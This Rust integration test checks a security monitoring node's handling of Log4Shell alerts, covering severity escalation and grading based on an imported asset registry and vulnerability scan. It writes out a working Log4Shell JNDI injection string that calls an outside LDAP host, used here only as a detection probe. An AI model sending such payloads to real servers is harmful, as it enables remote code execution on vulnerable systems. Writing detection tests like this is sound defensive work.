//! Alerts weighed by what they hit, on a real node: a registry of two web servers, a findings
//! CSV giving one of them an open CVE-2021-44228, and SigmaHQ's Log4Shell rule (tagged
//! `cve.2021-44228`) firing on access log lines from each. The incident on the vulnerable host
//! is raised one severity step above the rule's and says why on its timeline; the one on the
//! other host is not. Both name the system, its department and its 运维 unit, and the
//! internet-facing level-3 system grades above the internal level-2 one.

#![allow(clippy::unwrap_used)] // tests fail loudly on unexpected input

mod common;

use std::io::Write;
use std::path::{Path, PathBuf};
use std::time::Duration;

use common::{Node, eventually};
use serde_json::Value;

const WAIT: Duration = Duration::from_secs(30);

/// SigmaHQ's Log4Shell rule for web server logs, from the shared corpus.
const LOG4SHELL: &str = "sigmahq/rules-emerging-threats/2021/Exploits/CVE-2021-44228/\
                         web_cve_2021_44228_log4j_fields.yml";

fn corpus(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../shared/corpus")
        .join(rel)
}

/// A pack holding the Log4Shell rule, with the web server pipeline that maps its W3C field
/// names onto what the access log parser gives.
fn write_pack(dir: &Path) -> PathBuf {
    let pack = dir.join("pack");
    std::fs::create_dir_all(pack.join("rules")).unwrap();
    std::fs::copy(corpus(LOG4SHELL), pack.join("rules/log4shell.yml")).unwrap();
    std::fs::write(
        pack.join("pack.yml"),
        "name: log4shell\nversion: \"1\"\nrules: [rules]\npipelines: [webserver]\n",
    )
    .unwrap();
    pack
}

/// The registry: the portal (互联网, 三级) on web01, the office system (内网, 二级) on web02.
pub const REGISTRY_CSV: &str = "\
system,region,department,ops unit,contact,level,filing,cii,exposure,addresses,hostnames
门户网站,410100,郑州市大数据局,郑州云服务公司,张三 13800000000,3,41010013001-23001,no,internet,10.10.1.11,web01
协同办公,410100,郑州市卫健委,河南信息技术公司,李四,2,,no,internal,10.10.2.22,web02
";

/// The scan: CVE-2021-44228 open on web01 (by its address), something else on web02.
pub const FINDINGS_CSV: &str = "\
host,port,cve,cvss,title
10.10.1.11,8080/tcp,CVE-2021-44228,10.0,Apache Log4j2 JNDI remote code execution
10.10.2.22,443/tcp,CVE-2014-3566,3.4,SSLv3 POODLE
";

fn start(dir: &Path) -> Node {
    let pack = write_pack(dir);
    let text = common::config(
        &dir.join("data"),
        &format!(
            "[rules]\nbuiltin = false\npacks = [\"{}\"]\n[correlate]\nwindow_secs = 60\n",
            pack.display()
        ),
    );
    let file = dir.join("onewall.toml");
    std::fs::write(&file, text).unwrap();
    Node::start(&file)
}

fn import(node: &Node, name: &str, body: &str) -> Value {
    let (status, reply) = node.post(
        &format!("/api/v1/assets/import?name={name}"),
        body.as_bytes(),
    );
    assert_eq!(status, 200, "import {name}: {reply}");
    assert_eq!(
        reply["refused"].as_array().map(Vec::len),
        Some(0),
        "{reply}"
    );
    reply
}

/// An nginx access line from `host` (syslog over TCP), a Log4Shell probe from `client`.
fn probe(node: &Node, host: &str, client: &str) {
    let line = format!(
        "<134>Dec  7 09:00:00 {host} nginx: {client} - - [07/Dec/2026:09:00:00 +0000] \
         \"GET /login?user=${{jndi:ldap://{client}:1389/a}} HTTP/1.1\" 200 512 \"-\" \
         \"curl/8.5.0\"\n"
    );
    let mut s = std::net::TcpStream::connect(node.tcp.as_deref().unwrap()).unwrap();
    s.write_all(line.as_bytes()).unwrap();
}

/// The incident whose targets name `host`'s system, once there is one.
fn incident_on(node: &Node, system: &str) -> Value {
    eventually(WAIT, || {
        let list = node.get("/api/v1/incidents?limit=50");
        list["items"].as_array()?.iter().find_map(|i| {
            let hit = i["targets"]
                .as_array()
                .is_some_and(|ts| ts.iter().any(|t| t["system"] == system));
            hit.then(|| i["id"].as_str().unwrap().to_owned())
        })
    })
    .map(|id| node.get(&format!("/api/v1/incidents/{id}")))
    .unwrap_or_else(|| {
        panic!(
            "no incident names {system}; incidents: {}\nalerts: {}\nstderr:\n{}",
            node.get("/api/v1/incidents?limit=50"),
            node.get("/api/v1/alerts?limit=50"),
            node.stderr()
        )
    })
}

fn incident_body(v: &Value) -> &Value {
    if v["incident"].is_object() {
        &v["incident"]
    } else {
        v
    }
}

fn timeline_kinds(inc: &Value) -> Vec<String> {
    inc["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn a_log4shell_alert_on_the_host_with_that_cve_open_is_raised_and_says_so_and_on_the_other_not() {
    let dir = tempfile::tempdir().unwrap();
    let node = start(dir.path());

    let reg = import(&node, "registry.csv", REGISTRY_CSV);
    assert_eq!(reg["kind"], "registry", "{reg}");
    assert_eq!(reg["registry"]["added"], 2, "{reg}");
    let scan = import(&node, "findings.csv", FINDINGS_CSV);
    assert_eq!(scan["kind"], "scan", "{scan}");
    assert_eq!(scan["scan"]["new"], 2, "{scan}");

    // Two probes from two outside clients (so the incidents stay apart).
    probe(&node, "web01", "45.77.10.20");
    probe(&node, "web02", "45.77.10.21");

    // web01: the rule is `high`; the open CVE makes the incident critical.
    let a = incident_on(&node, "门户网站");
    let a = incident_body(&a);
    assert_eq!(a["severity"], "critical", "{a}");
    let target = a["targets"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["system"] == "门户网站")
        .unwrap();
    assert_eq!(target["department"], "郑州市大数据局", "{target}");
    assert_eq!(target["ops_unit"], "郑州云服务公司", "{target}");
    assert_eq!(target["level"], 3);
    assert_eq!(target["exposure"], "internet");
    assert_eq!(target["open_cves"][0], "CVE-2021-44228");
    let notes: Vec<&Value> = a["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "target_vulnerable")
        .collect();
    assert_eq!(notes.len(), 1, "{a}");
    assert_eq!(notes[0]["target"], "web01");
    assert_eq!(notes[0]["system"], "门户网站");
    assert_eq!(notes[0]["cve"], "CVE-2021-44228");
    let kinds = timeline_kinds(a);
    let note = kinds.iter().position(|k| k == "target_vulnerable").unwrap();
    let raised = kinds.iter().rposition(|k| k == "severity_changed").unwrap();
    assert!(note < raised, "{kinds:?}");
    // 重要 (三级) + internet-facing under attack from outside: weight 3 × critical 4 → Ⅰ.
    assert_eq!(a["classification"]["grade"], "I", "{a}");

    // web02: the same rule, no such CVE open: high, no note, graded lower.
    let b = incident_on(&node, "协同办公");
    let b = incident_body(&b);
    assert_eq!(b["severity"], "high", "{b}");
    assert!(
        !timeline_kinds(b).iter().any(|k| k == "target_vulnerable"),
        "{b}"
    );
    let bt = &b["targets"][0];
    assert_eq!(bt["department"], "郑州市卫健委");
    assert_eq!(bt["ops_unit"], "河南信息技术公司");
    assert!(
        bt.get("open_cves")
            .is_none_or(|c| c.as_array().is_some_and(Vec::is_empty))
    );
    // 一般 (二级), internal: 1 × high 3 → Ⅲ.
    assert_eq!(b["classification"]["grade"], "III", "{b}");

    // The alert itself carries its target too.
    let alerts = node.get("/api/v1/alerts?limit=50");
    let on_a = alerts["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|al| al["target"]["system"] == "门户网站")
        .unwrap_or_else(|| panic!("{alerts}"));
    assert_eq!(on_a["target"]["open_cves"][0], "CVE-2021-44228");

    // After a restart the same attacker probes web01 again: the stored incident takes the
    // alert (the store's atomic update), keeps its target and notes the CVE only once.
    let id = a["id"].as_str().unwrap().to_owned();
    node.stop();
    let node = Node::start(&dir.path().join("onewall.toml"));
    probe(&node, "web01", "45.77.10.20");
    let again = eventually(WAIT, || {
        let v = node.get(&format!("/api/v1/incidents/{id}"));
        let inc = incident_body(&v).clone();
        (inc["alert_ids"].as_array()?.len() == 2).then_some(inc)
    })
    .unwrap_or_else(|| {
        panic!(
            "the incident never took the second alert: {}\nstderr:\n{}",
            node.get(&format!("/api/v1/incidents/{id}")),
            node.stderr()
        )
    });
    assert_eq!(again["severity"], "critical");
    assert_eq!(again["targets"].as_array().unwrap().len(), 1, "{again}");
    assert_eq!(again["targets"][0]["system"], "门户网站");
    let notes = timeline_kinds(&again)
        .iter()
        .filter(|k| *k == "target_vulnerable")
        .count();
    assert_eq!(notes, 1, "{again}");
    node.stop();
}
